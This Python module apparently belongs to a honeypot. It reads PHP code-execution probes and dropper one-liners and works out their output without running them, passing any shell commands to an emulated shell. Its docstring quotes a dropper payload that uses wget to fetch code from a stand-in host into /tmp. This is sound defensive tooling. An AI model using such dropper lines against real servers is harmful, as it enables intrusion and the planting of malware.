"""A tiny reader of the PHP one-liners exploits send, answered as PHP would, never evaluated.

Scanners test code execution with ``<?php echo md5('marker'); ?>`` or ``print(7*7)`` and
droppers send ``<?php system('cd /tmp; wget http://x/y'); ?>``. This understands exactly that:
string and integer literals, bare words (PHP reads an undefined constant as its name), ``.``
concatenation, ONE arithmetic operator between two integers, ``echo``/``print``/``die``, and a
short list of functions: the command ones (system, passthru, shell_exec, exec, popen, backticks)
hand their command to the emulated shell; md5, sha1, base64_decode, strrev, strtoupper and
strtolower are computed. Anything else yields nothing. Input, tokens and calls are bounded.
"""

from __future__ import annotations

import base64
import binascii
import contextlib
import hashlib
import re
from collections.abc import Callable

MAX_CODE = 8 * 1024
MAX_TOKENS = 2000
MAX_CALLS = 32
MAX_DEPTH = 8
_PHP_INT_MAX = 2**63 - 1

_TOKEN = re.compile(r"""
    \s+
  | (?P<str>'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*")
  | (?P<tick>`[^`]*`)
  | (?P<num>\d{1,18})
  | (?P<name>\$?[A-Za-z_][A-Za-z0-9_]*)
  | (?P<op>[().,;+\-*/%])
  | (?P<other>.)
""", re.VERBOSE | re.DOTALL)

_COMMANDS = {"system", "passthru", "shell_exec", "exec", "popen", "proc_open", "pcntl_exec"}
_PRINTS = {"echo", "print", "die", "exit", "print_r", "var_dump", "printf"}
Shell = Callable[[str], str]


class _Stop(Exception):
    pass


def php_output(code: str, shell: Shell) -> str:
    """What PHP would print for ``code``, with commands answered by ``shell``."""
    text = code[:MAX_CODE]
    text = re.sub(r"<\?(php\b|=)?|\?>", lambda m: " echo " if m.group(1) == "=" else ";", text)
    tokens = _tokens(text)
    reader = _Reader(tokens, shell)
    with contextlib.suppress(_Stop):
        reader.statements()
    return "".join(reader.out)


def call_output(function: str, argument: str, shell: Shell) -> str:
    """What ``call_user_func_array(function, [argument])`` prints (ThinkPHP's invokefunction)."""
    reader = _Reader([], shell)
    value = reader.call(function.lower().strip(), [argument])
    if function.lower() in ("md5", "sha1", "strrev", "base64_decode", "strtoupper", "strtolower"):
        return value  # ThinkPHP's controller returns the value, which the framework prints
    return "".join(reader.out)


def _tokens(text: str) -> list[tuple[str, str]]:
    found: list[tuple[str, str]] = []
    for match in _TOKEN.finditer(text):
        kind = match.lastgroup
        if kind is None:
            continue
        found.append((kind, match.group()))
        if len(found) >= MAX_TOKENS:
            break
    return found


def _unquote(literal: str) -> str:
    body = literal[1:-1]
    if literal[0] == "'":
        return body.replace("\\'", "'").replace("\\\\", "\\")
    return re.sub(r"\\(.)", lambda m: {"n": "\n", "t": "\t", "r": "\r"}.get(m.group(1), m.group(1)), body)


class _Reader:
    def __init__(self, tokens: list[tuple[str, str]], shell: Shell) -> None:
        self.tokens = tokens
        self.pos = 0
        self.shell = shell
        self.out: list[str] = []
        self.calls = 0
        self.depth = 0

    def peek(self) -> tuple[str, str]:
        return self.tokens[self.pos] if self.pos < len(self.tokens) else ("end", "")

    def take(self) -> tuple[str, str]:
        token = self.peek()
        self.pos += 1
        return token

    def statements(self) -> None:
        while self.pos < len(self.tokens):
            if self.peek()[1] == ";":  # an empty statement
                self.pos += 1
                continue
            start = self.pos
            self.statement()
            while self.peek()[0] != "end" and self.peek()[1] != ";":  # skip what we did not understand
                self.pos += 1
            self.pos += 1
            if self.pos <= start:
                self.pos = start + 1

    def statement(self) -> None:
        kind, text = self.peek()
        if kind == "name" and text.lower() in ("echo", "print"):
            self.take()
            self.out.append(self.expression())
            while self.peek()[1] == ",":
                self.take()
                self.out.append(self.expression())
        elif kind == "name" and text.lower() in ("die", "exit"):
            self.take()
            self.out.append(self.expression() if self.peek()[1] == "(" else "")
            raise _Stop
        else:
            self.expression()

    def expression(self) -> str:
        value = self.term()
        while self.peek()[1] == ".":
            self.take()
            value += self.term()
        return value

    def term(self) -> str:
        kind, text = self.take()
        if kind == "str":
            return _unquote(text)
        if kind == "tick":
            return self.run(text[1:-1])
        if kind == "num":
            return self.arithmetic(int(text))
        if kind == "op" and text == "(":
            value = self.expression()
            if self.peek()[1] == ")":
                self.take()
            return value
        if kind == "name":
            if self.peek()[1] == "(":
                self.take()
                return self.call(text.lower(), self.arguments())
            return "" if text.startswith("$") else text  # an undefined constant reads as its name
        return ""

    def arithmetic(self, left: int) -> str:
        """``7*7``: one operator between two integers, as scanners write their markers."""
        kind, op = self.peek()
        if kind != "op" or op not in "+-*/%" or op == ".":
            return str(left)
        self.take()
        kind, right_text = self.take()
        if kind != "num":
            return ""
        right = int(right_text)
        if op in "/%" and right == 0:
            return ""
        result: int | float = {"+": left + right, "-": left - right, "*": left * right,
                               "/": left / right if op == "/" else 0, "%": left % right if op == "%" else 0}[op]
        if isinstance(result, float) and result.is_integer():
            result = int(result)
        if isinstance(result, float) or abs(result) > _PHP_INT_MAX:  # PHP prints floats with 14 digits
            text = f"{float(result):.14G}"
            mantissa, exp, power = text.partition("E")
            return (mantissa if "." in mantissa or not exp else mantissa + ".0") + exp + power
        return str(result)

    def arguments(self) -> list[str]:
        args: list[str] = []
        self.depth += 1
        try:
            if self.depth > MAX_DEPTH:
                raise _Stop
            while self.peek()[0] != "end" and self.peek()[1] != ")":
                args.append(self.expression())
                if self.peek()[1] == ",":
                    self.take()
                elif self.peek()[1] != ")":
                    break
            if self.peek()[1] == ")":
                self.take()
        finally:
            self.depth -= 1
        return args

    def call(self, name: str, args: list[str]) -> str:
        self.calls += 1
        if self.calls > MAX_CALLS:
            raise _Stop
        first = args[0] if args else ""
        if name in _COMMANDS:
            output = self.run(first)
            if name in ("system", "passthru"):
                self.out.append(output)
                lines = output.rstrip("\n").split("\n")
                return lines[-1] if output else ""
            if name == "exec":
                lines = output.rstrip("\n").split("\n")
                return lines[-1] if output else ""
            return output
        if name in _PRINTS:
            if name == "var_dump":
                self.out.append(f'string({len(first.encode())}) "{first}"\n')
            else:
                self.out.append(first)
            if name in ("die", "exit"):
                raise _Stop
            return "1"
        return _pure(name, first)

    def run(self, command: str) -> str:
        return self.shell(command)


def _pure(name: str, value: str) -> str:
    if name == "md5":
        return hashlib.md5(value.encode("utf-8", "surrogateescape")).hexdigest()
    if name == "sha1":
        return hashlib.sha1(value.encode("utf-8", "surrogateescape")).hexdigest()
    if name == "base64_decode":
        try:
            return base64.b64decode(value + "=" * (-len(value) % 4), validate=False).decode("utf-8", "replace")
        except (binascii.Error, ValueError):
            return ""
    if name == "strrev":
        return value[::-1]
    if name == "strtoupper":
        return value.upper()
    if name == "strtolower":
        return value.lower()
    return ""
